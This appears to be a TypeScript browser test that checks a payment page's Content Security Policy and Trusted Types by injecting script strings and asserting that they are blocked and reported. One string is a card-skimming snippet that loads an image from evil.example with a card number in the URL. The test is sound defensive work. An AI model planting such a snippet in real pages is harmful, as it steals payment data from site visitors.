import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openStage, type Stage } from "./stage.ts";

let stage: Stage;
before(async () => {
  stage = await openStage();
});
after(() => stage.close());

// As text, for they run in the page and not here.
const loadPicture = `document.body.append(Object.assign(document.createElement("img"), {
  src: "https://evil.example/pixel?card=4242424242424242" }))`;
const makeHtml = `(() => {
  try {
    document.body.innerHTML = "<p>made by a script</p>";
    return "made";
  } catch (error) {
    return error.name;
  }
})()`;

async function reported(): Promise<string[]> {
  for (let tries = 0; tries < 100; tries += 1) {
    const rows = await stage.db.sql<{ kind: string }>(
      "SELECT concat_ws(' ', page, source, directive, blocked) AS kind FROM page_reports ORDER BY kind",
    );
    if (rows.length >= 2) return rows.map(({ kind }) => kind);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  return [];
}

test("what a smuggled script tries is kept from happening, and the browser reports it", async () => {
  const session = await stage.createSession();
  let html: unknown;
  let kinds: string[] = [];
  const visit = stage.visit({ js: true, keepWindow: false }, async (page) => {
    await page.goto(session.url);
    await page.evaluate(loadPicture);
    html = await page.evaluate(makeHtml);
    kinds = await reported();
  });
  await assert.rejects(visit, /violates the following Content Security Policy directive: "img-src/);
  assert.equal(html, "TypeError");
  assert.deepEqual(kinds, [
    "payment page img-src https://evil.example",
    "payment page require-trusted-types-for trusted-types-sink",
  ]);
});
